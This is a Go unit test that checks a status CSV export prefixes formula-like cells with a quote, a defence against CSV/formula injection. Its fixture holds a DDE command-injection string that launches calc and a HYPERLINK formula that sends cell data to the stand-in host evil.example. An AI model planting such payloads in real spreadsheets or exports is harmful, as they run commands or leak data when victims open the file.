package status

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/outreach-campaign/outreach/internal/campaign"
)

// TestCSVGuardsFormulas: a note or city that begins like a spreadsheet
// formula is written behind a quote, so that downloading /status.csv and
// opening it runs nothing.
func TestCSVGuardsFormulas(t *testing.T) {
	cs := []campaign.Campaign{{ID: 19, No: "18", Partner: campaign.Partner{Region: "Seoul"}, Country: "Canada",
		City: "@SUM(1+1)*cmd|' /C calc'!A0", Relationship: campaign.Friendship, RelationshipLabel: "Friendship City",
		ResponseNote: `=HYPERLINK("https://evil.example/?"&A1, "Click")`}}
	var b bytes.Buffer
	if err := Write(&b, "csv", cs, Options{}); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("%d records, %v", len(recs), err)
	}
	row := recs[1]
	if got, want := row[3], "'@SUM(1+1)*cmd|' /C calc'!A0"; got != want {
		t.Errorf("city cell %q, want %q", got, want)
	}
	if got, want := row[8], `'=HYPERLINK("https://evil.example/?"&A1, "Click")`; got != want {
		t.Errorf("note cell %q, want %q", got, want)
	}
	if row[0] != "18" || row[1] != "Seoul" {
		t.Errorf("plain cells changed: %q", row[:2])
	}
}
